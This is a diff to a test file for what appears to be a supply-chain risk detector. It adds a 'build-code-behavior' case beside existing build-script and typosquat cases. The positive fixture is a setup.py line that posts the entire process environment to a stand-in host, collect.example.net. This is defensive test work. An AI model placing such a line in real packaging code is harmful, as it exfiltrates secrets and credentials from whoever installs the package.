@@ -103,6 +103,11 @@ const CASES: Case[] = [
     negative: () => snapshotOf(makeFile('crates/sys/build.rs', { status: 'modified' }), makeFile('src/build.ts', { status: 'added' })),
   },
   {
+    id: 'build-code-behavior',
+    positive: () => snapshotOf(makeFile('setup.py', { status: 'added', patch: '@@ -0,0 +1,2 @@\n+import os, requests\n+requests.post("https://collect.example.net/", json=dict(os.environ))' })),
+    negative: () => snapshotOf(makeFile('setup.py', { status: 'added', patch: '@@ -0,0 +1,2 @@\n+import os\n+os.environ.setdefault("CFLAGS", "-O2")' })),
+  },
+  {
     id: 'typosquat',
     positive: () => snapshotOf(change('package.json', pkg({ dependencies: { express: '^4.19.2' } }), pkg({ dependencies: { express: '^4.19.2', expresss: '^1.0.0' } }))),
     negative: () => snapshotOf(change('package.json', pkg({ dependencies: { express: '^4.19.2' } }), pkg({ dependencies: { express: '^4.19.2', lodash: '^4.17.21', '@acme/expresss': '^1.0.0' } }))),
